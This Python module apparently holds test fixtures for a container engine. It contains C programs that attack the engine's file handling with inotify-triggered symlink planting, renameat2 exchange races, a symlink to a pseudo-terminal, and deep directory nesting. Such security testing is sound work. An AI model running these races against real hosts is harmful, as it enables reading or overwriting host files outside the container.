"""Sources in C of the programs with which containers attack an engine's handling of their files."""

from __future__ import annotations

PLANT_LINKS = r"""
#include <stdio.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <unistd.h>
/* At the first change in DIR plants links f0000 to fN that lead to TARGET, from the last one on. */
int main(int c, char **v) {
    int n = atoi(v[2]), made = 0, fd = inotify_init();
    char event[4096], path[512];
    inotify_add_watch(fd, v[1], IN_CREATE | IN_ATTRIB | IN_MODIFY | IN_MOVED_TO);
    puts("ready"); fflush(stdout);
    read(fd, event, sizeof event);
    for (int i = n - 1; i >= 0; i--) {
        snprintf(path, sizeof path, "%s/f%04d", v[1], i);
        made += !symlink(v[3], path);
    }
    printf("planted %d\n", made); fflush(stdout);
    for (;;) pause();
}
"""

EXCHANGE = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
/* Exchanges each STRIDEth of /d/f00000 to /d/fN with a link to TARGET as soon as it is there. */
int main(int c, char **v) {
    int n = atoi(v[1]), stride = atoi(v[3]);
    char a[64], b[64];
    mkdir("/d", 0755); mkdir("/l", 0755);
    for (int i = 0; i < n; i++) { sprintf(b, "/l/k%05d", i); symlink(v[2], b); }
    puts("ready"); fflush(stdout);
    for (int i = 0; i < n; i += stride) {
        sprintf(a, "/d/f%05d", i); sprintf(b, "/l/k%05d", i);
        while (syscall(SYS_renameat2, AT_FDCWD, b, AT_FDCWD, a, 2)) ;
    }
    puts("swapped"); fflush(stdout);
    for (;;) pause();
}
"""

FLIP = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
/* Exchanges /x/d, a directory of directories, with a link to TARGET, for ever. */
int main(int c, char **v) {
    char path[64];
    mkdir("/x", 0755); mkdir("/x/d", 0755);
    for (int i = 0; i < 200; i++) { sprintf(path, "/x/d/own%03d", i); mkdir(path, 0755); }
    symlink(v[1], "/x/l");
    puts("ready"); fflush(stdout);
    for (;;) syscall(SYS_renameat2, AT_FDCWD, "/x/d", AT_FDCWD, "/x/l", 2);
}
"""

PTY = r"""
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
/* Opens a terminal of its own, and has /app.log lead there. */
int main(void) {
    int fd = open("/dev/ptmx", O_RDWR | O_NOCTTY);
    grantpt(fd); unlockpt(fd);
    symlink(ptsname(fd), "/app.log");
    puts("ready"); fflush(stdout);
    for (;;) pause();
}
"""

NEST = r"""
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
/* Nests COUNT directories with names of LENGTH bytes below /deep, and puts a file into the last. */
int main(int c, char **v) {
    int n = atoi(v[1]), l = atoi(v[2]);
    char name[256];
    memset(name, 'd', l); name[l] = 0;
    mkdir("/deep", 0755); chdir("/deep");
    for (int i = 0; i < n; i++) if (mkdir(name, 0755) || chdir(name)) { perror(name); return 1; }
    int fd = open("leaf", O_CREAT | O_WRONLY, 0644);
    return write(fd, "leaf", 4) != 4;
}
"""

PROGRAMS = {"plant": PLANT_LINKS, "exchange": EXCHANGE, "flip": FLIP, "pty": PTY, "nest": NEST}
